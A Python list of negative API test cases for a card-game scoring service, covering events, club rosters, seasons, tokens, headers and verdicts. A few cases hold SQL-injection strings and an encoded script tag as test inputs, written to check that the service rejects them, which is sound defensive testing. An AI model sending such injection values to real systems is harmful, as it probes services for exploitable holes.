    Case(EV_TRAVELLER, "board: a word", 404, path=_path(EV_TRAVELLER, board="seven")),
    Case(EV_TRAVELLER, "board: 0", 404, path=_path(EV_TRAVELLER, board="0")),
    Case(EV_RELEASE, "releasing a board at an event of free deals", 404),
    # One field across many clubs: the world's event plays in none; a field is hosted by a
    # duplicate event only, and joined with its host's id and key, never guessed.
    Case(EV_FIELD, "the field of an event in no field", 404),
    Case(EV_FIELD, "the field without a token", 401, "token_missing",
         headers={"Authorization": ""}),
    Case(EV_FIELD_BOARD, "a field's board at an event in no field", 404),
    Case(EV_FIELD_BOARD, "board: a word", 404, path=_path(EV_FIELD_BOARD, board="seven")),
    Case(EV_FIELD_BOARD, "board: 0", 404, path=_path(EV_FIELD_BOARD, board="0")),
    Case(EV_CREATE, "field: hosted by an event of free deals", 422,
         body={**VALID[EV_CREATE], "field": True}),
    Case(EV_CREATE, "field: a word", 422,
         body={**VALID[EV_CREATE], "deals": "duplicate", "field": "host"}),
    Case(EV_CREATE, "field: a number", 422,
         body={**VALID[EV_CREATE], "deals": "duplicate", "field": 1}),
    Case(EV_CREATE, "field: joining the world's event, which hosts none", 422,
         body={**VALID[EV_CREATE], "deals": "duplicate",
               "field": {"join": "{event}", "key": "guessed"}}),
    Case(EV_CREATE, "field: joining an event that is not there", 422,
         body={**VALID[EV_CREATE], "field": {"join": "nothere123", "key": "guessed"}}),
    Case(EV_CREATE, "field: join as a number", 422,
         body={**VALID[EV_CREATE], "field": {"join": 7, "key": "k"}}),
    Case(EV_CREATE, "field: no key", 422,
         body={**VALID[EV_CREATE], "field": {"join": "nothere123"}}),
    Case(EV_CREATE, "field: a key of 10,000 characters", 422,
         body={**VALID[EV_CREATE], "field": {"join": "nothere123", "key": "k" * 10_000}}),
    Case(EV_CREATE, "field: a key of SQL", 422,
         body={**VALID[EV_CREATE], "field": {"join": "x' OR '1'='1", "key": "' OR 1=1 --"}}),
    Case(EV_CREATE, "field: something else beside join and key", 422,
         body={**VALID[EV_CREATE], "field": {"join": "nothere123", "key": "k",
                                             "host": True}}),
    Case(EV_RELEASE, "releasing at a table not there", 404, path=_path(EV_RELEASE, table="9")),
    Case(EV_RELEASE, "releasing in a round not played", 404,
         path=_path(EV_RELEASE, number="2")),
    Case(EV_RELEASE, "board: a word", 404, path=_path(EV_RELEASE, board="seven")),
    Case(EV_CREATE, "duplicate deals of no board a round", 422,
         body={**VALID[EV_CREATE], "deals": "duplicate", "boards_per_round": 0}),
    Case(EV_CREATE, "duplicate deals of more boards than a game holds", 422,
         body={**VALID[EV_CREATE], "deals": "duplicate", "boards_per_round": 10**9}),
    Case(EV_CREATE, "deals of an unknown kind", 422,
         body={**VALID[EV_CREATE], "deals": "shuffled"}),
    Case(EV_CREATE, "boards a round for free deals", 422,
         body={**VALID[EV_CREATE], "boards_per_round": 3}),
    Case(EV_CREATE, "an event with a name 61 long", 422,
         body={**VALID[EV_CREATE], "name": "n" * 61}),
    # Clubs: a roster's names are one person's however typed; merges within the roster.
    *(case for op in CLUB_PATHS for case in club_path_cases(op)),
    Case(CL_CREATE, "a club with a name 61 long", 422, body={"name": "n" * 61}),
    Case(CL_CREATE, "a club named only by invisible characters", 422,
         body={"name": "\u200b\u2060 \ufeff"}),
    Case(CL_ADD, "a member named as Anna in capitals without accents", 422,
         body={"name": "ANNA"}),
    Case(CL_ADD, "a member named Anna with a zero-width space", 422,
         body={"name": "An\u200bna"}),
    Case(CL_ADD, "a member named only by invisible characters", 422,
         body={"name": "\u200b\u200d"}),
    Case(CL_ADD, "initials 5 long", 422, body={"name": "Zeno", "initials": "ABCDE"}),
    Case(CL_ADD, "initials as a number", 422, body={"name": "Zeno", "initials": 7}),
    Case(CL_ADD, "every problem at once", 422,
         body={"name": "\u200b", "initials": "TOOLONG"}),
    Case(CL_CHANGE, "a rename to Bruno's name", 422, body={"name": "bruno"}),
    Case(CL_CHANGE, "active not a boolean", 422, body={"active": "no"}),
    Case(CL_CHANGE, "a change with a stale If-Match", 412, body={"initials": "X"},
         headers={"If-Match": '"m1-0000000000000000"'}),
    Case(CL_CHANGE, "a change of a member not there", 404,
         path=_path(CL_CHANGE, member_id="zzzzzzzzzz"), body={"initials": "X"}),
    Case(CL_MERGE, "a merge into itself", 422, body={"into": "{member}"}),
    Case(CL_MERGE, "a merge into no member", 422, body={"into": "zzzzzzzzzz"}),
    Case(CL_UNMERGE, "undoing a merge never made", 409, "not_merged"),
    Case(CL_FORGET, "forgetting a member not there", 404,
         path=_path(CL_FORGET, member_id="zzzzzzzzzz")),
    # Seasons: dates in order, families that exist, a counting the club can use.
    Case(CL_SEASON_ADD, "a season whose dates are reversed", 422,
         body={**VALID[CL_SEASON_ADD], "from": "2026-06-01"}),
    Case(CL_SEASON_ADD, "a season of an unknown family", 422,
         body={**VALID[CL_SEASON_ADD], "families": ["briscola"]}),
    Case(CL_SEASON_ADD, "a season counting what no season counts", 422,
         body={**VALID[CL_SEASON_ADD], "counting": "most"}),
    Case(CL_SEASON_ADD, "n without best_n", 422,
         body={**VALID[CL_SEASON_ADD], "counting": "sum"}),
    Case(CL_SEASON_ADD, "a date that is no date", 422,
         body={**VALID[CL_SEASON_ADD], "to": "2026-02-30"}),
    Case(CL_SEASON_ADD, "every problem at once", 422,
         body={"name": "", "from": "x", "to": 7, "families": "gatti", "counting": None}),
    Case(CL_STANDINGS_PDF, "query: an unknown language", 422,
         path=_path(CL_STANDINGS_PDF) + "?lang=xx"),
    # A member's statistics: a season of the club, a variant that exists.
    Case(CL_STATS, "query: a season the club does not have", 422, "record_invalid",
         path=_path(CL_STATS) + "?season=zzzzzzzzzz"),
    Case(CL_STATS, "query: SQL for a season", 422, "record_invalid",
         path=_path(CL_STATS) + "?season=%27%20OR%20%271%27%3D%271"),
    Case(CL_STATS, "query: a variant that does not exist", 422, "record_invalid",
         path=_path(CL_STATS) + "?variant=briscola"),
    # A game of the club: its seats on the roster, with the club's edit token.
    Case(CREATE, "a seat of a member not on the club's roster", 422,
         body={**VALID[CREATE], "club": "{club}", "players": [{"member": "zzzzzzzzzz"},
                                                              "Bruno", "Carla"]},
         headers={"Club-Authorization": "Bearer {club_edit}"}),
    Case(CREATE, "a member on two seats", 422,
         body={**VALID[CREATE], "club": "{club}", "players": [{"member": "{member}"},
                                                              "Anna", "Carla"]},
         headers={"Club-Authorization": "Bearer {club_edit}"}),
    Case(CREATE, "a member seat in a game of no club", 422,
         body={**VALID[CREATE], "players": [{"member": "{member}"}, "Bruno", "Carla"]}),
    Case(CREATE, "a member seat that is not only a member", 422,
         body={**VALID[CREATE], "players": [{"member": "{member}", "x": 1}, "B", "C"]}),
    Case(CREATE, "a club without its token", 401, body={**VALID[CREATE], "club": "{club}"}),
    Case(CREATE, "a club with its read token", 403, body={**VALID[CREATE], "club": "{club}"},
         headers={"Club-Authorization": "Bearer {club_read}"}),
    Case(CREATE, "a club with the game's own token", 404,
         body={**VALID[CREATE], "club": "{club}"},
         headers={"Club-Authorization": "Bearer {game_edit}"}),
    Case(CREATE, "a club that is a number", 422, body={**VALID[CREATE], "club": 7}),
    Case(EV_CREATE, "an entrant not on the club's roster", 422,
         body={**VALID[EV_CREATE], "club": "{club}", "entrants": [
             {"name": {"member": "zzzzzzzzzz"}}, {"name": "Bruno"}, {"name": "Carla"}]},
         headers={"Club-Authorization": "Bearer {club_edit}"}),
    Case(EV_CREATE, "an event of a club with the event's own token", 404,
         body={**VALID[EV_CREATE], "club": "{club}"},
         headers={"Club-Authorization": "Bearer {game_edit}"}),
    # The evening: only a game with no natural end is ended by its scorekeeper.
    Case(END, "ending a game of gatti-3", 409, "ends_by_rules"),
    Case(REOPEN, "reopening a game of gatti-3", 409, "ends_by_rules"),
    *(case for op in (END, REOPEN) for case in path_cases(op)
      if case.name in EVENT_ODD_PATHS),
    *(Case(op, f"method {method}", 405, method=method, raw=b"{}")
      for op, methods in WRONG_METHODS.items() for method in methods),
    # The variant in the path: only the variants' own ids.
    *(Case(VARIANT, f"variant id: {name}", 404, path=_path(VARIANT, variant_id=value))
      for name, value in {"unknown": "briscola", "SQL": "gatti-3%27%20OR%201%3D1",
                          "HTML": "%3Cscript%3E", "long": "g" * 500}.items()),
    Case(VARIANT, "variant id: a lone surrogate", 400, "malformed_request",
         path=_path(VARIANT, variant_id="%ED%A0%80")),
    *(Case(RULES, f"rules of variant: {name}", 404, path=_path(RULES, variant_id=value))
      for name, value in {"unknown": "briscola", "HTML": "%3Cscript%3E",
                          "long": "g" * 500}.items()),
    Case(RULES, "rules of variant: a lone surrogate", 400, "malformed_request",
         path=_path(RULES, variant_id="%ED%A0%80")),
    # The query: the sheet's two parameters and nothing else; text that is no text anywhere.
    Case(SHEET, "query: an unknown language", 422, path=_path(SHEET) + "?lang=xx"),
    Case(SHEET, "query: detail not a boolean", 422, path=_path(SHEET) + "?detail=maybe"),
    Case(SHEET, "query: HTML for a language", 422,
         path=_path(SHEET) + "?lang=%3Cscript%3E"),
    Case(SHEET, "query: a lone surrogate", 400, "malformed_request",
         path=_path(SHEET) + "?lang=%ED%A0%80"),
    Case(HEALTH, "query: bytes that are no UTF-8", 400, "malformed_request",
         path=_path(HEALTH) + "?x=%FF"),
    Case(READY, "query: bytes that are no UTF-8", 400, "malformed_request",
         path=_path(READY) + "?x=%FF"),
    Case(VARIANTS, "query: a lone surrogate", 400, "malformed_request",
         path=_path(VARIANTS) + "?q=%ED%A0%80"),
    # Headers the service reads.
    Case(CREATE, "an Idempotency-Key of 201 characters", 422, body=VALID[CREATE],
         headers={"Idempotency-Key": "k" * 201}),
    Case(CREATE, "an Idempotency-Key that is no UTF-8", 400, "malformed_request",
         body=VALID[CREATE], headers={"Idempotency-Key": "\xed\xa0\x80"}),
    Case(ADD_HAND, "an Authorization that is no UTF-8", 400, "malformed_request",
         body=VALID[ADD_HAND], headers={"Authorization": "Bearer \xff\xfe"}),
    Case(ADD_HAND, "an Authorization of 10,000 characters", 401, "invalid_token",
         body=VALID[ADD_HAND], headers={"Authorization": "Bearer " + "x" * 10_000}),
    Case(CORRECT, "a correction without If-Match", 428, body=VALID[CORRECT], if_match=None),
    Case(CORRECT, "a correction with a made-up If-Match", 412, body=VALID[CORRECT],
         if_match='"not-the-etag"'),
    Case(CORRECT, "a correction with a weak If-Match", 412, body=VALID[CORRECT],
         if_match='W/"x"'),
    Case(CORRECT, "a correction with an If-Match that is no UTF-8", 400, "malformed_request",
         body=VALID[CORRECT], if_match='"\xed\xa0\x80"'),
    Case(DELETE, "a deletion of hand 1 of 2", 409, "not_last_hand"),
    # A verdict: said as the rules of a verdict ask, on a version the player read.
    Case(VERDICT, "a dispute without a reason", 422, body={"verdict": "dispute"}),
    Case(VERDICT, "a dispute with a blank reason", 422,
         body={"verdict": "dispute", "reason": " \t "}),
    Case(VERDICT, "a confirmation with a reason", 422,
         body={"verdict": "confirm", "reason": "fine"}),
    Case(VERDICT, "a reason of 281 characters", 422,
         body={"verdict": "dispute", "reason": "x" * 281}),
    Case(VERDICT, "a reason with a control character", 422,
         body={"verdict": "dispute", "reason": "ok\x07"}),
    Case(VERDICT, "a seat in the body", 422, "invalid_request",
         body={"verdict": "confirm", "seat": 0}),
    Case(VERDICT, "a verdict on a version not read", 412, body=VALID[VERDICT],
         headers={"If-Match": '"h1v9-0000000000000000"'}),
    Case(DELETE, "a deletion without If-Match", 428, path=_path(DELETE, number="2"),
         if_match=None),
    Case(READ_GAME, "an If-None-Match that is no UTF-8", 400, "malformed_request",
         headers={"If-None-Match": "\xed\xa0\x80"}),
    Case(JSON_EXPORT, "an Accept-Language that is no UTF-8", 400, "malformed_request",
         headers={"Accept-Language": "\xff"}),
    Case(CSV_EXPORT, "a Content-Type that is no UTF-8", 400, "malformed_request",
         headers={"Content-Type": "text/\xff"}),
]
